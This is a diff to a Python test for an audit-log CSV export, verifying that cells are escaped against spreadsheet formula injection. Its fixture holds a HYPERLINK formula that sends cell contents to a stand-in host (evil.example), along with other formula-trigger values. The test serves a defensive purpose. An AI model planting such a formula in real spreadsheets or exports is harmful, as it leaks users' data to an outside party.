@@ -163,31 +163,19 @@ def test_the_csv_export_has_every_column_and_no_live_formula(engine: Engine) -> 
         hostile, AdminAction.EVENT_REPLAY, "refused", account="+Stripe", detail="-1+1", now=DAY
     )
 
-    rows = list(
-        csv.reader(io.StringIO(audit_csv(audit.entries(AuditFilters(), limit=10)).decode()))
-    )
+    exported = audit_csv(audit.entries(AuditFilters(), limit=10)).decode()
 
-    assert rows[0] == [
-        "occurred_at_utc",
-        "actor",
-        "role",
-        "actor_kind",
-        "client_address",
-        "action",
-        "account",
-        "result",
-        "detail",
-        "attempts",
-    ]
-    assert rows[1] == [
-        "2026-11-02T09:30:00+00:00",
-        '\'=HYPERLINK("https://evil.example/?d="&A1,"x")',
-        "viewer",
-        "user",
-        "'@1.2.3.4",
-        "events.replay",
-        "'+Stripe",
-        "refused",
-        "'-1+1",
-        "1",
+    assert list(csv.DictReader(io.StringIO(exported))) == [
+        {
+            "occurred_at_utc": "2026-11-02T09:30:00+00:00",
+            "actor": '\'=HYPERLINK("https://evil.example/?d="&A1,"x")',
+            "role": "viewer",
+            "actor_kind": "user",
+            "client_address": "'@1.2.3.4",
+            "action": "events.replay",
+            "account": "'+Stripe",
+            "result": "refused",
+            "detail": "'-1+1",
+            "attempts": "1",
+        }
     ]
